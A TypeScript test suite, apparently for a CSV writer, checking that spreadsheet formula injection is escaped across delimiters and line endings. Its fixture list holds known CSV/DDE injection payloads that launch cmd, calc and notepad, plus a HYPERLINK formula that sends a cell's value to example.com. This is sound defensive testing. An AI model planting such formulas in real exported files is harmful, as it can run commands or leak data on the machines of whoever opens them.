import assert from "node:assert/strict"
import { test } from "node:test"
import { parse } from "csv-parse/sync"
import { csv, type Delimiter } from "./csv-text.ts"

// What spreadsheets have been made to calculate, payloadbox and more.
const formulas = [
  `DDE ("cmd";"/C calc";"!A0")A0`,
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://example.com?x="&A1,"see")',
  "-2+3+cmd|' /C calc'!A0",
  "+573001234567",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  `"=1+1`,
]
const separators = [",", ";", "\t", ",;", ",;\t"]
const lineEnds = ["\n", "\r", "\r\n", "\n\r"]
const hidden = [...separators.flatMap((all) => [...all]), ...lineEnds].flatMap((sign) =>
  formulas.flatMap((formula) => [
    `a${sign}${formula}`,
    `a${sign}${formula}${sign}b`,
    `a${sign}"${formula}${sign}b`,
    `a"${sign}""${formula}`,
    `${sign}${formula}${sign}`,
  ]),
)

/**
 * As Excel and LibreOffice do: CR, LF and CRLF end a row wherever no quote is open, a cell is unquoted and then looked at. The reader who
 * opens a file says what parts cells, LibreOffice several signs at once; a quote opens at the beginning of a cell alone.
 */
function readAsSpreadsheet(text: string, partedBy: string): string[][] {
  const rows: string[][] = [[""]]
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const row = rows.at(-1)!
    const add = (sign: string) => (row[row.length - 1] += sign)
    const char = text[at]!
    if (isQuoted && char === '"' && text[at + 1] === '"') add(text[at++]!)
    else if (char === '"' && (isQuoted || row.at(-1) === "")) isQuoted = !isQuoted
    else if (isQuoted) add(char)
    else if (partedBy.includes(char)) row.push("")
    else if (char === "\r" || char === "\n") {
      if (char === "\r" && text[at + 1] === "\n") at++
      rows.push([""])
    } else add(char)
  }
  return rows.slice(0, -1)
}

const written = [...formulas, ...hidden].map((text, nth) => [nth, text, "x"])

test("no spreadsheet calculates a cell, whichever separators it reads the file with", () => {
  for (const delimiter of [",", ";"] satisfies Delimiter[])
    for (const partedBy of separators)
      for (const cell of readAsSpreadsheet(csv(written, delimiter), partedBy).flat())
        assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/, `${delimiter} read by ${partedBy}`)
})

test("a reader of the file's own separator gets one row for each, and of each cell its text with no more than apostrophes", () => {
  for (const delimiter of [",", ";"] satisfies Delimiter[]) {
    const rows = readAsSpreadsheet(csv(written, delimiter), delimiter)
    assert.deepEqual(parse(csv(written, delimiter), { delimiter }), rows)
    const isSame = (one: string, other: string) => one.replaceAll("'", "") === other.replaceAll("'", "")
    for (const [nth, text] of written) assert.ok(isSame(rows[Number(nth)]![1]!, String(text)), String(text))
  }
})

test("a phone stays readable, and what begins nothing stays as it is", () => {
  const cells = ["+573001234567", "a,=1+1", "uno - dos", "2+2=4, claro", "línea\notra", 'Tubo 3"; rojo', -5]
  assert.deepEqual(parse(csv([cells])), [
    ["'+573001234567", "a,=1+1", "uno - dos", "2+2=4, claro", "línea\notra", 'Tubo 3"; rojo', "-5"],
  ])
})
